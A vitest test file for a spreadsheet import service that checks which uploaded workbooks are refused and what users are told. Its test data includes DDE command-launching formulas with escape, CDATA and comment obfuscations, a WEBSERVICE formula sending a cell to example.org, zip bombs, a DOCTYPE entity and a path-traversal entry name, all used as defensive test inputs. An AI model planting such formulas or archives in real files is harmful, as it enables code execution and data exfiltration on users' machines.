/**
 * Every file that an office may send by mistake, or somebody on purpose, has an answer that says what it is
 * and what to do: as a roster, as a table of units, and as a superior's table to be filled.
 */
import { writeXlsx } from 'hucre/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApi, type TestApi, type TestCredentials } from '../../testkit/api.ts';
import { makeZip, type ZipEntry } from '../../testkit/make-zip.ts';
import {
  createOrganisation,
  createPerson,
  TEST_PASSWORD,
  UNIT,
} from '../../testkit/organisation.ts';
import { createClient } from '../report/report-client.ts';
import { type MadeCell, type MadeSheet, madeWorkbook } from '../spreadsheet/workbook-parts.ts';
import { previewFile, upload } from './import-client.ts';

type Path = 'ROSTER' | 'ORG_UNITS' | 'TEMPLATE';

/** A table that each of the three takes as it is. */
const TABLES: Readonly<Record<Path, { titles: string[]; row: MadeCell[] }>> = {
  ROSTER: {
    titles: ['工号', '姓名', '手机号', '单位代码', '用工形式', '到岗日期'],
    row: ['a0001', '李晓雨', '13800000000', UNIT.huayuanCommunity, '专职', '2026-09-01'],
  },
  ORG_UNITS: {
    titles: ['单位代码', '名称', '级别', '上级代码'],
    row: ['410105001009', '新社区', '', ''],
  },
  TEMPLATE: {
    titles: ['序号', '姓名', '手机号', '单位', '用工形式', '到岗日期'],
    row: [1, '', '', '', '', ''],
  },
};
const PATHS = Object.keys(TABLES) as Path[];

let api: TestApi;
let client: ReturnType<typeof createClient>;
let admin: TestCredentials;
beforeAll(async () => {
  api = await startTestApi();
  client = createClient(api);
  await createOrganisation(api.database);
  const person = await createPerson(api.database, {
    orgUnitCode: null,
    roles: [{ role: 'ADMIN', orgUnitCode: UNIT.jinshui }],
  });
  admin = await api.signIn(person.staffNumber, TEST_PASSWORD);
});
afterAll(() => api.close());

const peopleAndUnits = async () =>
  (
    await api.database.sql`
      select (select count(*)::int from people) as people,
             (select count(*)::int from org_units) as units,
             (select count(*)::int from report_templates) as templates`
  )[0];

interface Answer {
  /** The refusal of the file as a whole. */
  refused: string | null;
  /** What is said of its rows. */
  rows: string[];
}

/** What the person is told of the file on this path: when it is sent, or when it is looked at. */
async function answerTo(path: Path, bytes: Uint8Array): Promise<Answer> {
  const sent = await upload(api, admin, bytes);
  const file = (await sent.json()) as { id?: string; message?: string };
  if (file.id === undefined) return { refused: `${sent.status} ${file.message}`, rows: [] };
  if (path === 'TEMPLATE') {
    const input = { orgUnitCode: UNIT.jinshui, fileId: file.id, title: '上级的表' };
    const { code, message, template } = await client.change('create', input, admin);
    const columns = template?.mapping.columns ?? [];
    return {
      refused: template === undefined ? `${code} ${message}` : null,
      rows: columns.map(({ column, field }) => `${column} ${field}`),
    };
  }
  const { code, message, import: shown } = await previewFile(api, admin, file.id, path);
  return {
    refused: shown === undefined ? `${code} ${message}` : shown.message,
    rows: (shown?.rows.edges ?? []).flatMap(({ node }) =>
      [...node.faults, ...node.doubts].map((fault) => `${fault.column} ${fault.message}`),
    ),
  };
}

/** The table of the path in a sheet, changed. */
const sheetOf = (path: Path, change: (rows: MadeCell[][]) => MadeCell[][] = (rows) => rows) => ({
  rows: change([[...TABLES[path].titles], [...TABLES[path].row]]),
});
const bookOf = (path: Path, ...more: ZipEntry[]) => madeWorkbook([sheetOf(path)], ...more);
const cellChanged = (path: Path, title: string, cell: MadeCell): Buffer => {
  const column = TABLES[path].titles.indexOf(title);
  return madeWorkbook([
    sheetOf(path, ([titles = [], row = []]) => [titles, row.with(column, cell)]),
  ]);
};

describe.each(PATHS)('as %s', (path) => {
  it('the table itself is taken, so that what is refused below is refused for its fault', async () => {
    expect(await answerTo(path, bookOf(path))).toMatchObject({ refused: null });
    const { rows } = await answerTo(path, bookOf(path));
    if (path === 'TEMPLATE') expect(rows).toContain('B person.name');
    else expect(rows).toEqual([]);
  });

  const CDATA = '<![CDATA[cmd|"/c calc"!A0]]>';
  const sheetWithFormula = (formula: string) =>
    `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>${formula}</f></c></row></sheetData></worksheet>`;
  const withSheet = (content: string) =>
    bookOf(path, { name: 'xl/worksheets/sheet9.xml', content });

  const refused: [string, RegExp, () => Uint8Array | Promise<Uint8Array>][] = [
    ['nothing', /文件是空的/, () => Buffer.alloc(0)],
    ['a PDF', /不是表格文件/, () => Buffer.from('%PDF-1.7')],
    ['a page of the web named .xls', /不是表格文件/, () => Buffer.from('<html><table></table>')],
    [
      'an .xls',
      /旧版 Excel 文件（\.xls）.*另存为 \.xlsx/,
      () => Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    ],
    ['an .xls of 1990', /旧版 Excel 文件（\.xls）/, () => Buffer.from([9, 0, 4, 0, 0, 0, 0, 0])],
    [
      'a workbook with a password to open it',
      /打开密码.*取消密码/,
      () =>
        writeXlsx({
          sheets: [{ name: '表', rows: [TABLES[path].titles, ['x']] }],
          encryption: { password: 'mima', spinCount: 1 },
        }),
    ],
    [
      'an archive with a password',
      /打开密码.*取消密码/,
      () => {
        const bytes = bookOf(path);
        const central = bytes.indexOf('PK\u0001\u0002');
        bytes.writeUInt16LE(bytes.readUInt16LE(central + 8) | 1, central + 8);
        return bytes;
      },
    ],
    [
      'an .xlsb',
      /二进制工作簿（\.xlsb）/,
      () => bookOf(path, { name: 'xl/workbook.bin', content: '' }),
    ],
    [
      'an .ods',
      /\.ods 文件.*另存为 \.xlsx/,
      () =>
        makeZip([
          { name: 'content.xml', content: '' },
          { name: 'META-INF/manifest.xml', content: '' },
        ]),
    ],
    ['macros', /宏.*不带宏/, () => bookOf(path, { name: 'xl/vbaProject.bin', content: 'x' })],
    [
      'controls that run code',
      /宏/,
      () => bookOf(path, { name: 'xl/activeX/activeX1.xml', content: '' }),
    ],
    [
      'a document that is embedded in it',
      /嵌有别的文件.*删去/,
      () => bookOf(path, { name: 'xl/embeddings/oleObject1.bin', content: 'x' }),
    ],
    [
      'links to other workbooks',
      /外部链接.*粘贴为数值/,
      () =>
        bookOf(path, { name: 'xl/externalLinks/externalLink1.xml', content: '<externalBook/>' }),
    ],
    [
      'a link to a program (DDE)',
      /引用其他文件或程序/,
      () => bookOf(path, { name: 'xl/externalLinks/externalLink1.xml', content: '<ddeLink/>' }),
    ],
    [
      'data that is fetched from a database',
      /引用其他文件或程序/,
      () => bookOf(path, { name: 'xl/connections.xml', content: '<connections/>' }),
    ],
    [
      'a formula that starts a program (DDE)',
      /引用其他文件或程序/,
      () => withSheet(sheetWithFormula("cmd|'/c calc'!A0")),
    ],
    [
      'the same behind escapes',
      /引用其他文件或程序/,
      () => withSheet(sheetWithFormula('cmd&#x7C;&apos;/c calc&apos;!A0')),
    ],
    [
      'the same in a section of text',
      /引用其他文件或程序/,
      () => withSheet(sheetWithFormula(CDATA)),
    ],
    [
      'the same behind a comment',
      /引用其他文件或程序/,
      () => withSheet(sheetWithFormula("cmd<!-- -->|'/c calc'!A0")),
    ],
    [
      'a formula that sends data to a web address',
      /引用其他文件或程序/,
      () => withSheet(sheetWithFormula('_xlfn.WEBSERVICE("https://example.org/?q="&amp;B2)')),
    ],
    [
      'a bomb',
      /解开后超过 200 MB/,
      () => bookOf(path, { name: 'xl/media/a.png', content: Buffer.alloc(201 << 20) }),
    ],
    [
      'a bomb that says that it is small',
      /解开后超过 200 MB/,
      () =>
        bookOf(path, { name: 'xl/media/a.png', content: Buffer.alloc(201 << 20), declaredSize: 9 }),
    ],
    [
      'a document type',
      /DOCTYPE/,
      () => bookOf(path, { name: 'xl/a.xml', content: '<!DOCTYPE a [<!ENTITY b "c">]>' }),
    ],
    ['names that climb out', /不正常的路径/, () => bookOf(path, { name: '../a.xml', content: '' })],
    ['half a file', /已损坏/, () => bookOf(path).subarray(0, 700)],
  ];
  it.each(refused)('%s is refused: %s', { timeout: 60_000 }, async (_name, said, make) => {
    const before = await peopleAndUnits();
    const answer = await answerTo(path, await make());
    expect(answer.refused).toMatch(said);
    expect(await peopleAndUnits()).toEqual(before);
  });

  it('texts, names of sheets and ordinary formulas with such signs are no links', async () => {
    const sheet: MadeSheet = {
      ...sheetOf(path),
      name: '甲|乙',
    };
    const other: MadeSheet = {
      rows: [
        [
          '甲|乙',
          { formula: '\'甲|乙\'!A1&"|"', value: 'x' },
          { formula: 'SUM(A1:A2)', value: '0' },
        ],
      ],
    };
    expect(await answerTo(path, madeWorkbook([sheet, other]))).toMatchObject({ refused: null });
  });

  it('a hidden sheet is never read as the list: it is said, or the visible one is taken', async () => {
    const hidden = { ...sheetOf(path), hidden: true };
    const alone = await answerTo(path, madeWorkbook([{ rows: [] }, hidden]));
    if (path === 'TEMPLATE') expect(alone).toEqual({ refused: null, rows: [] });
    else expect(alone.refused).toMatch(/隐藏的工作表不会读取，请先取消隐藏/);
    const beside = madeWorkbook([{ rows: [['别的']], hidden: true }, sheetOf(path)]);
    expect(await answerTo(path, beside)).toMatchObject({ refused: null });
  });
});

describe.each(['ROSTER', 'ORG_UNITS'] as const)('in %s', (path) => {
  const said = async (bytes: Uint8Array) => {
    const { refused, rows } = await answerTo(path, bytes);
    return [refused, ...rows].join('\n');
  };
  const code = '单位代码';
  const name = path === 'ROSTER' ? '姓名' : '名称';

  it('a merged header is refused with what to do', async () => {
    const { titles } = TABLES[path];
    const upper: MadeCell[] = ['基本情况', ...titles.slice(1).map(() => null)];
    // No row holds all names: the first stands above, the others below.
    const halves = madeWorkbook([
      {
        rows: [
          [titles[0] ?? null, '其他', ...titles.slice(2).map(() => null)],
          [null, ...titles.slice(1)],
          TABLES[path].row,
        ],
        merges: ['A1:A2', 'B1:D1'],
      },
    ]);
    expect(await said(halves)).toMatch(/表头有合并单元格；请取消合并/);
    const titled = madeWorkbook([{ rows: [upper, titles, TABLES[path].row], merges: ['A1:D1'] }]);
    expect(await answerTo(path, titled)).toEqual({ refused: null, rows: [] });
  });

  it('a number that became scientific is named with its cell', async () => {
    expect(await said(cellChanged(path, code, '4.10105E+11'))).toMatch(
      /单位代码 .*4\.10105E\+11.*科学计数法.*设为“文本”/,
    );
    expect(await said(cellChanged(path, code, 4.1010500100912346e17))).toMatch(
      /单位代码 数字超过 15 位.*设为“文本”/,
    );
    expect(await said(cellChanged(path, code, 410105001001))).not.toMatch(/单位代码/);
  });

  it('a formula without a value and a text that would be one are named with their cell', async () => {
    expect(await said(cellChanged(path, name, { formula: 'B9' }))).toMatch(
      new RegExp(`${name} .*公式没有存下算出的值`),
    );
    expect(await said(cellChanged(path, name, "=cmd|'/c calc'!A0"))).toMatch(
      new RegExp(`${name} .*会被表格软件当作公式`),
    );
    expect(
      await answerTo(path, cellChanged(path, name, { formula: 'B9', value: '林小明' })),
    ).toEqual({ refused: null, rows: [] });
  });
});

describe('days of a roster', () => {
  it.each(['2026/9/1', '2026年9月1日', '2026-09-01', 46266])(
    'are read as written: %s',
    async (day) => {
      const answer = await answerTo('ROSTER', cellChanged('ROSTER', '到岗日期', day));
      if (typeof day === 'string') expect(answer).toEqual({ refused: null, rows: [] });
      // A number that is formatted as no day may be anything.
      else expect(answer.rows.join()).toMatch(/到岗日期/);
    },
  );

  it.each(['去年九月', '2026-02-30', '9/1/26'])('are named when they are none: %s', async (day) => {
    const { rows } = await answerTo('ROSTER', cellChanged('ROSTER', '到岗日期', day));
    expect(rows.join()).toMatch(new RegExp(`到岗日期 .*${day.replaceAll('/', '\\/')}`));
  });
});

describe('a superior’s table', () => {
  it('with a header of merged cells, formulas and days as text is taken, and its formulas are left alone', async () => {
    const { rows } = await answerTo(
      'TEMPLATE',
      madeWorkbook([
        {
          rows: [
            ['序号', '姓名', '到岗日期', '年数'],
            [null, null, null, null],
            [1, '', '2026年9月', { formula: 'A3+1', value: '2' }],
          ],
          merges: ['A1:A2', 'B1:B2', 'C1:C2', 'D1:D2'],
        },
      ]),
    );
    expect(rows).toContain('B person.name');
    expect(rows.filter((row) => row.startsWith('D '))).toEqual([]);
  });
});
